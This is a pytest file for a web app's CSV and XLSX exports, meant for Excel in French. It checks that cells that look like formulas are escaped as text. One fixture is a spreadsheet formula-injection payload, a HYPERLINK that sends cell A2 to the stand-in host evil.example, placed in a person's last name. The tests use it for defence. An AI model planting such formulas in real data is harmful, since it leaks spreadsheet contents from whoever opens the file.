"""Every CSV export: one writer, for Excel in French, where no cell typed by a person runs."""

import csv
import io

import pytest

from tests.factories import attach, make_legal_rep, make_organisation, make_person
from webapp.models import PlatformRole
from webapp.spreadsheets import excel_safe

FORMULA = '=HYPERLINK("http://evil.example/?"&A2;"clic")'


def read_csv(response) -> list[list[str]]:
    """The file as a spreadsheet reads it: UTF-8 with its BOM, `;` between cells."""
    assert response.status_code == 200 and response.mimetype == "text/csv"
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("cell", ["=1+1", "+33 6 12", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_a_cell_that_starts_like_a_formula_stays_text(cell):
    assert excel_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Martin", "", "O'Neil", " =pas au début", 42, None])
def test_other_cells_are_kept(cell):
    assert excel_safe(cell) == cell


def test_the_roster_export_neutralises_formulas(client, auth):
    """Does a last name written as a formula come out of the RL's export as text?"""
    organisation = make_organisation(establishments=1)
    rl = make_legal_rep(organisation)
    attach(make_person("piege@exemple.fr", first_name="@SUM(A1)", last_name=FORMULA),
           organisation)
    auth.login(rl.email)
    rows = read_csv(client.get(f"/structures/{organisation.id}/personnes.csv"))
    assert rows[0][:3] == ["Nom", "Prénom", "Adresse e-mail"]
    trap = next(row for row in rows if row[2] == "piege@exemple.fr")
    assert trap[:2] == ["'" + FORMULA, "'@SUM(A1)"]


def test_the_region_exports_neutralise_formulas(client, auth):
    """Do a structure's and an RL's names written as formulas come out of the region's CSV as
    text, and the départements' CSV have the same format?"""
    organisation = make_organisation(name="=1+1", establishments=1)
    make_legal_rep(organisation, first_name="+Rémi", last_name="-Alpha")
    trainer = make_person("formateur@exemple.fr", role=PlatformRole.TRAINER, region_code="84")
    auth.login(trainer.email)
    rows = read_csv(client.get("/region/structures.csv"))
    line = next(row for row in rows if row[1] == organisation.finess)
    assert line[0] == "'=1+1"
    assert any(cell.startswith("'+Rémi -Alpha") for cell in line)
    departements = read_csv(client.get("/region/departements.csv"))
    assert departements[0][:2] == ["Code", "Département"]
    assert ["69", "Rhône"] in [row[:2] for row in departements]


def test_the_xlsx_writer_keeps_text_as_text_and_dates_as_dates():
    """Does the generic `.xlsx` writer keep a formula-looking name as text, a date as a date
    cell, drop control characters, and put an autofilter on the header row?"""
    from datetime import date  # noqa: PLC0415

    from openpyxl import load_workbook  # noqa: PLC0415

    from webapp.spreadsheets import xlsx_bytes  # noqa: PLC0415

    sheet = load_workbook(io.BytesIO(xlsx_bytes(
        ["Nom", "Date", "Nombre"],
        [[FORMULA, date(2026, 12, 5), 3], ["bip\x07", None, None]]))).active
    assert sheet["A2"].value == FORMULA and sheet["A2"].data_type == "s"
    assert sheet["B2"].is_date and sheet["B2"].value.date() == date(2026, 12, 5)
    assert sheet["C2"].value == 3 and sheet["A3"].value == "bip"
    assert sheet.auto_filter.ref == "A1:C3"


def test_the_xlsx_columns_are_as_wide_as_their_content():
    """Is each column wide enough for its longest cell (a moment never shown as ####), a short
    one narrow, and a very long text bounded?"""
    from datetime import datetime  # noqa: PLC0415

    from openpyxl import load_workbook  # noqa: PLC0415

    from webapp.spreadsheets import MAX_WIDTH, xlsx_bytes  # noqa: PLC0415

    structure = "Association Rhône Solidarités (fictif)"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(
        ["Structure", "Inscrit(e) le", "N°", "Notes"],
        [[structure, datetime(2026, 12, 5, 15, 25), 3, "x" * 500],
         ["EJ", None, 12, ""]]))).active
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCD"}
    assert widths["A"] >= len(structure)
    assert widths["B"] >= len("05/12/2026 15:25")
    assert widths["C"] <= 10
    assert widths["D"] == MAX_WIDTH
